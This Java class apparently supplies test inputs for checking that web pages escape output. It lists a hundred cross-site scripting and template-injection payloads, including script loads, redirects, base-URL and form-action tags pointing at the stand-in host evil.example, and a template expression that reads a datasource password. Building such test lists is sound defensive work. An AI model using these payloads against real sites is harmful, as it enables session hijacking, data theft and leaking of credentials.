package dev.winnow.web.hostile;

import java.util.List;
import java.util.stream.Stream;

/** Texts that become elements, attributes or scripts on pages that don't escape them. */
final class PagePayloads {

    private static final List<String> WAYS_OUT = List.of(
            "", "\">", "'>", "--></title></style></textarea></svg>", "]]>", "\u0000\">", "{/if}{#raw}", "\\\">");
    private static final List<String> ELEMENTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<a href=javascript:alert(1)>x</a>",
            "<math><mtext><style><img src onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>",
            "<form action=//evil.example><input name=a>");
    private static final List<String> OTHERS = List.of(
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            " onclick=alert(1) ",
            "x\" style=\"background:url(//evil.example)",
            "`onerror=alert(1)`",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "&\u0000lt;",
            "javascript:alert(1)",
            "{page.html.raw}",
            "{config:['quarkus.datasource.h2.password']}",
            "{inject:vertx}");

    private PagePayloads() {}

    /** A hundred of them. */
    static List<String> all() {
        return Stream.concat(
                        WAYS_OUT.stream().flatMap(way -> ELEMENTS.stream().map(element -> way + element)),
                        OTHERS.stream())
                .toList();
    }
}
